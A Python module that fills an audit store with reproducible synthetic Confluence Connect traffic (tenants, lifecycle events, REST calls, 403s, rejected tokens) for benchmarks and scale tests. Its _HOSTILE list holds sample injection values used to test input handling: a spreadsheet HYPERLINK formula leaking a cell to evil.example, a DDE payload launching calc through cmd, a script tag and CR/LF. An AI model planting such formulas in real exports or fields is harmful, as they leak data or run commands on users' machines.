"""Synthetic but realistic audit traffic, written through the real recorder and store.

``connect-audit generate`` uses this to fill a store for benchmarks and the dashboard's
scale tests. The shape follows what a busy Connect app sees:

* tenants of Zipf-like sizes (a few large sites make most of the traffic), each installed
  through the :class:`~collector.installs.InstallRegistry` with its own secret and
  declared scopes (some narrow, so scope 403s happen), one of them uninstalling near the end;
* traffic that follows the working day and week, spread over ``days`` days up to now;
* incoming host calls (page loads, webhooks, context-token API calls), outgoing REST calls
  as the app user and, about 10% of all events, acting as a user; real paths, templates and
  required scopes from the shipped scope map;
* a few percent of 403s (``scope`` / ``permission``), rejected tokens with real reason
  codes, and server errors; now and then hostile values (formula prefixes, HTML, CR/LF).

Everything derives from ``seed``, so a run is reproducible. Events are produced in time
order, so ``seq`` order and time order agree as they do in a live store.
"""

from __future__ import annotations

import bisect
import math
import random
import time
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from collector import events as ev
from collector.errors import rejection_for
from collector.events import AuditRecord
from collector.installs import InstallRegistry
from collector.recorder import Recorder
from collector.scopes import satisfies
from collector.store import Store

APP_KEY = "com.example.connect-audit-demo"
_NAMES = (
    "acme", "globex", "initech", "umbrella", "hooli", "stark", "wayne", "wonka", "tyrell",
    "cyberdyne", "soylent", "vandelay", "dunder-mifflin", "oscorp", "aperture", "massive-dynamic",
    "pied-piper", "prestige-worldwide", "gringotts", "monarch", "nakatomi", "weyland", "bluth",
    "sirius-cybernetics", "planet-express", "virtucon", "krusty", "duff", "sterling-cooper", "los-pollos",
)  # fmt: skip
_BROAD_SCOPES = "READ WRITE DELETE ACT_AS_USER"
_NARROW_SCOPES = "READ"
# (method, example path with {id}/{key} holes, weight, who may call it)
_OUTGOING = (
    ("GET", "/wiki/rest/api/content/{id}", 30),
    ("GET", "/wiki/api/v2/pages/{id}", 14),
    ("GET", "/wiki/rest/api/content/search", 12),
    ("GET", "/wiki/rest/api/search", 8),
    ("GET", "/wiki/rest/api/space/{key}", 8),
    ("GET", "/wiki/rest/api/space", 3),
    ("GET", "/wiki/rest/api/user", 5),
    ("PUT", "/wiki/rest/api/content/{id}", 8),
    ("POST", "/wiki/rest/api/content", 5),
    ("POST", "/wiki/rest/api/content/{id}/label", 5),
    ("DELETE", "/wiki/rest/api/content/{id}", 2),
)
_FALLBACK_SCOPE = {"GET": "READ", "PUT": "WRITE", "POST": "WRITE", "DELETE": "DELETE"}
# (reason code, weight, status): rejected incoming tokens
_REJECTIONS = (
    ("expired", 40, 401),
    ("qsh_mismatch", 18, 401),
    ("bad_signature", 10, 401),
    ("unknown_issuer", 10, 401),
    ("missing_token", 10, 401),
    ("replayed", 4, 401),
    ("malformed", 4, 401),
    ("not_yet_valid", 2, 401),
    ("context_qsh_not_allowed", 2, 401),
)
_HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1,2)",
    "@cmd|' /C calc'!A0",
    "-2+3",
    "<script>alert(1)</script>",
    "line one\r\nline two",
)
_SPACES = ("DEV", "OPS", "HR", "SALES", "DOCS", "ENG", "LEGAL", "MKT")


@dataclass(frozen=True)
class Tenant:
    client_key: str
    base_url: str
    scopes: str
    weight: float
    accounts: tuple[str, ...]
    uninstall_at: datetime | None


@dataclass(frozen=True)
class GenerateResult:
    events: int
    tenants: int
    days: float
    seed: int
    seconds: float

    @property
    def rate(self) -> float:
        return self.events / self.seconds if self.seconds else 0.0


class _Picker:
    """Weighted choice by bisecting a cumulative table (random.choices re-sums every call)."""

    def __init__(self, items, weights) -> None:
        self.items = list(items)
        total = 0.0
        self.cum = []
        for w in weights:
            total += w
            self.cum.append(total)
        self.total = total

    def __call__(self, rnd: float):
        return self.items[bisect.bisect_right(self.cum, rnd * self.total)]


def _operations() -> list[tuple[str, str, str, str, float]]:
    """(method, path pattern, template, required scope, weight), scopes from the scope map."""
    try:
        from collector.scopes import ScopeMap

        scope_map = ScopeMap.default()
    except (ImportError, OSError, ValueError):  # the map ships with the package; be robust anyway
        scope_map = None
    ops = []
    for method, pattern, weight in _OUTGOING:
        example = pattern.replace("{id}", "123").replace("{key}", "DEV")
        found = scope_map.lookup(method, example) if scope_map else None
        template = found.template if found else pattern
        scope = found.scope if found else _FALLBACK_SCOPE[method]
        ops.append((method, pattern, template, scope, weight))
    return ops


class _Traffic:
    """Turns a uniform stream of random numbers into realistic events."""

    def __init__(self, rng: random.Random, tenants: list[Tenant], start: datetime, span: timedelta) -> None:
        self.rng = rng
        self.tenants = tenants
        self.pick_tenant = _Picker(tenants, [t.weight for t in tenants])
        ops = _operations()
        self.pick_op = _Picker(ops, [o[4] for o in ops])
        self.pick_rejection = _Picker(_REJECTIONS, [r[1] for r in _REJECTIONS])
        self._covered: dict[tuple[str, str], bool] = {}
        self.start = start
        self.span_s = span.total_seconds()
        self._hour_cum, self._hours = self._diurnal(span)

    def _diurnal(self, span: timedelta) -> tuple[list[float], int]:
        # Busy on working hours and weekdays, quiet at night and at weekends.
        hours = max(1, math.ceil(span.total_seconds() / 3600))
        cum, total = [], 0.0
        for h in range(hours):
            at = self.start + timedelta(hours=h)
            day = 1.0 if at.weekday() < 5 else 0.35
            hour = (
                0.25 + 0.75 * max(0.0, math.sin(math.pi * (at.hour - 6) / 14)) if 6 <= at.hour <= 20 else 0.2
            )
            total += day * hour
            cum.append(total)
        return [c / total for c in cum], hours

    def ts(self, fraction: float) -> datetime:
        h = min(bisect.bisect_right(self._hour_cum, fraction), self._hours - 1)
        lo = self._hour_cum[h - 1] if h else 0.0
        within = (fraction - lo) / ((self._hour_cum[h] - lo) or 1.0)
        seconds = min((h + within) * 3600, self.span_s - 1e-3)
        return self.start + timedelta(seconds=seconds)

    def event(self, ts: datetime) -> AuditRecord:
        rng = self.rng
        tenant = self.pick_tenant(rng.random())
        r = rng.random()
        if tenant.uninstall_at is not None and ts >= tenant.uninstall_at:
            return self._incoming(ts, tenant, 0.5 + r / 2)  # the host still calls; the app refuses
        if r < 0.42:
            return self._outgoing(ts, tenant, as_user=False)
        if r < 0.44:
            return self._outgoing(ts, tenant, as_user=True)
        return self._incoming(ts, tenant, r)

    def _ids(self) -> tuple[str, str, str]:
        bits = self.rng.getrandbits
        # A token fingerprint is a SHA-256: random 256 bits look the same and cost less.
        return _uuid4(bits(128)), f"req-{bits(64):016x}", f"{bits(256):064x}"

    def _outgoing(self, ts: datetime, tenant: Tenant, *, as_user: bool) -> AuditRecord:
        rng = self.rng
        method, pattern, template, scope, _ = self.pick_op(rng.random())
        path = pattern.replace("{id}", str(rng.randrange(10_000, 9_999_999))).replace(
            "{key}", rng.choice(_SPACES)
        )
        if template.endswith("/search"):
            text = rng.choice(_HOSTILE) if rng.random() < 0.002 else rng.choice(("roadmap", "release", "q3"))
            path += f"?cql=text~{text!r}".replace("\r\n", "%0D%0A")
        account = _zipf_choice(rng, tenant.accounts) if as_user else None
        status, outcome, reason = (201 if method == "POST" else 200), ev.ALLOWED, None
        covered = self._covered.get((tenant.scopes, scope))
        if covered is None:
            covered = self._covered[(tenant.scopes, scope)] = satisfies(tenant.scopes, scope)
        if not covered:
            status, outcome, reason = 403, ev.DENIED, ev.SCOPE
        else:
            r = rng.random()
            if r < (0.06 if as_user else 0.012):
                status, outcome, reason = 403, ev.DENIED, ev.PERMISSION
            elif r < 0.075:
                status = 404
            elif r > 0.996:
                status, outcome = rng.choice((500, 502, 503, 504)), ev.ERROR
        event_id, request_id, fingerprint = self._ids()
        iat = int(ts.timestamp())
        return AuditRecord(
            direction=ev.OUTGOING,
            outcome=outcome,
            auth_method=ev.USER_BEARER if as_user else ev.APP_JWT,
            identity_kind=ev.USER if as_user else ev.APP_USER,
            ts=ts,
            event_id=event_id,
            tenant_client_key=tenant.client_key,
            tenant_base_url=tenant.base_url,
            product="confluence",
            account_id=account,
            method=method,
            path=path,
            path_template=template,
            required_scope=scope,
            declared_scopes=tenant.scopes,
            status=status,
            reason=reason,
            latency_ms=round(rng.lognormvariate(3.4, 0.55), 3),
            request_id=request_id,
            token_fingerprint=fingerprint,
            claims={"iss": APP_KEY, "sub": account, "iat": iat, "exp": iat + 180, "qsh_kind": "computed"},
        )

    def _incoming(self, ts: datetime, tenant: Tenant, r: float) -> AuditRecord:
        rng = self.rng
        event_id, request_id, fingerprint = self._ids()
        if r < 0.75:
            kind, method, path, template, auth = (
                "webhook", "POST", "/webhooks/page-updated", "/webhooks/page-updated", ev.APP_JWT,
            )  # fmt: skip
            account = None
        elif r < 0.96:
            page = rng.randrange(10_000, 9_999_999)
            kind, method, path, template, auth = (
                "request", "GET", f"/macro/summary?pageId={page}&spaceKey={rng.choice(_SPACES)}",
                "/macro/summary", ev.APP_JWT,
            )  # fmt: skip
            account = _zipf_choice(rng, tenant.accounts) if rng.random() < 0.2 else None
        else:
            kind, method, path, template, auth = (
                "request", "GET", "/api/recent-activity", "/api/recent-activity", ev.CONTEXT_JWT,
            )  # fmt: skip
            account = _zipf_choice(rng, tenant.accounts)
        iat = int(ts.timestamp()) - rng.randrange(0, 30)
        claims = {
            "iss": tenant.client_key,
            "sub": account,
            "iat": iat,
            "exp": iat + 180,
            "qsh_kind": "context" if auth == ev.CONTEXT_JWT else "computed",
        }
        rec = AuditRecord(
            direction=ev.INCOMING,
            outcome=ev.ALLOWED,
            auth_method=auth,
            identity_kind=ev.USER if account else ev.ANONYMOUS,
            event_type=kind,
            ts=ts,
            event_id=event_id,
            tenant_client_key=tenant.client_key,
            tenant_base_url=tenant.base_url,
            product="confluence",
            account_id=account,
            method=method,
            path=path,
            path_template=template,
            declared_scopes=tenant.scopes,
            status=204 if kind == "webhook" else 200,
            latency_ms=round(rng.lognormvariate(2.4, 0.6), 3),
            request_id=request_id,
            token_fingerprint=fingerprint,
            claims=claims,
        )
        if tenant.uninstall_at is not None and ts >= tenant.uninstall_at:
            self._reject(rec, "inactive_install")
        elif rng.random() < 0.04:
            code = self.pick_rejection(rng.random())[0]
            self._reject(rec, code)
        elif rng.random() < 0.003:
            rec.status, rec.outcome = 500, ev.ERROR
        return rec

    def _reject(self, rec: AuditRecord, code: str) -> None:
        rec.outcome, rec.reason, rec.status = ev.REJECTED, code, 401
        rec.detail = rejection_for(code).__doc__.strip().removeprefix("Raised when ").rstrip(".")
        rec.identity_kind, rec.account_id = ev.ANONYMOUS, None
        if code == "missing_token":
            rec.auth_method, rec.claims, rec.token_fingerprint = ev.NO_AUTH, None, None
        elif code == "unknown_issuer":
            rec.tenant_client_key = rec.tenant_base_url = rec.product = rec.declared_scopes = None
            rec.claims = dict(rec.claims or {}, iss=_uuid4(self.rng.getrandbits(128)))
        elif code == "malformed":
            rec.claims = None


def _uuid4(value: int) -> str:
    """The text of a version-4 UUID made from 128 random bits (uuid.UUID is slower)."""
    h = f"{(value & ~(0xF << 76) & ~(0x3 << 62)) | (0x4 << 76) | (0x2 << 62):032x}"
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def _zipf_choice(rng: random.Random, items: tuple[str, ...]) -> str:
    # Inverse-power sampling: a few very active users, a long tail of occasional ones.
    n = len(items)
    return items[min(int(n ** rng.random()) - 1, n - 1)]


def make_tenants(rng: random.Random, count: int, start: datetime, end: datetime) -> list[Tenant]:
    tenants = []
    for i in range(count):
        name = _NAMES[i % len(_NAMES)] + (f"-{i // len(_NAMES) + 1}" if i >= len(_NAMES) else "")
        users = max(3, int(400 / (i + 1) ** 0.8))
        accounts = tuple(f"5b{rng.getrandbits(88):022x}" for _ in range(users))
        narrow = i % 7 == 3  # every seventh tenant declared READ only: its writes are scope 403s
        uninstall = end - (end - start) * 0.08 if i == count - 1 and count > 2 else None
        tenants.append(
            Tenant(
                client_key=_uuid4(rng.getrandbits(128)),
                base_url=f"https://{name}.atlassian.net/wiki",
                scopes=_NARROW_SCOPES if narrow else _BROAD_SCOPES,
                weight=1.0 / (i + 1) ** 1.1,
                accounts=accounts,
                uninstall_at=uninstall,
            )
        )
    return tenants


def _lifecycle(
    registry: InstallRegistry, recorder: Recorder, rng: random.Random, tenant: Tenant, kind: str, at
):
    payload = {
        "key": APP_KEY,
        "clientKey": tenant.client_key,
        "baseUrl": tenant.base_url,
        "displayUrl": tenant.base_url,
        "productType": "confluence",
        "description": "Atlassian Confluence at " + tenant.base_url,
        "sharedSecret": f"{rng.getrandbits(256):064x}",
        "eventType": kind,
    }
    registry.apply_lifecycle(kind, payload, declared_scopes=tenant.scopes, now=at)
    recorder.record(
        AuditRecord(
            direction=ev.LIFECYCLE,
            outcome=ev.ALLOWED,
            auth_method=ev.LIFECYCLE_JWT,
            identity_kind=ev.ANONYMOUS,
            event_type=kind,
            ts=at,
            event_id=_uuid4(rng.getrandbits(128)),
            tenant_client_key=tenant.client_key,
            tenant_base_url=tenant.base_url,
            product="confluence",
            method="POST",
            path=f"/{kind}",
            path_template=f"/{kind}",
            declared_scopes=tenant.scopes,
            status=204,
            latency_ms=round(rng.lognormvariate(3.0, 0.4), 3),
        )
    )


def generate(
    store: Store,
    events: int,
    *,
    tenants: int = 25,
    days: float = 30.0,
    seed: int = 0,
    now: datetime | None = None,
    progress: Callable[[int, int], None] | None = None,
    recorder: Recorder | None = None,
) -> GenerateResult:
    """Write ``events`` synthetic events (lifecycle events included) into ``store``."""
    if events < 0 or tenants < 1 or days <= 0:
        raise ValueError("events must be >= 0, tenants >= 1 and days > 0")
    rng = random.Random(seed)
    end = (now or datetime.now(UTC)).astimezone(UTC)
    start = end - timedelta(days=days)
    tenant_list = make_tenants(rng, tenants, start, end)
    registry = InstallRegistry(store)
    own = recorder is None
    rec = recorder or Recorder(store, queue_size=50_000, batch_size=2_000, checkpoint_every=10_000)
    started = time.perf_counter()
    rec.start()
    try:
        installs = min(len(tenant_list), events)
        for i, tenant in enumerate(tenant_list[:installs]):
            _lifecycle(registry, rec, rng, tenant, "installed", start + timedelta(seconds=i))
        traffic = _Traffic(rng, tenant_list, start, end - start)
        pending_uninstalls = sorted(
            (t for t in tenant_list[:installs] if t.uninstall_at), key=lambda t: t.uninstall_at
        )
        body = events - installs - len(pending_uninstalls)
        record, event, ts_at, random_ = rec.record, traffic.event, traffic.ts, rng.random
        for i in range(max(body, 0)):
            ts = ts_at((i + random_()) / body)
            while pending_uninstalls and ts >= pending_uninstalls[0].uninstall_at:
                tenant = pending_uninstalls.pop(0)
                _lifecycle(registry, rec, rng, tenant, "uninstalled", tenant.uninstall_at)
            record(event(ts))
            if progress and i % 10_000 == 0:
                progress(i + installs, events)
        for tenant in pending_uninstalls:
            _lifecycle(registry, rec, rng, tenant, "uninstalled", tenant.uninstall_at)
        rec.flush()
    finally:
        if own:
            rec.close()
    if progress:
        progress(events, events)
    return GenerateResult(events, tenants, days, seed, time.perf_counter() - started)
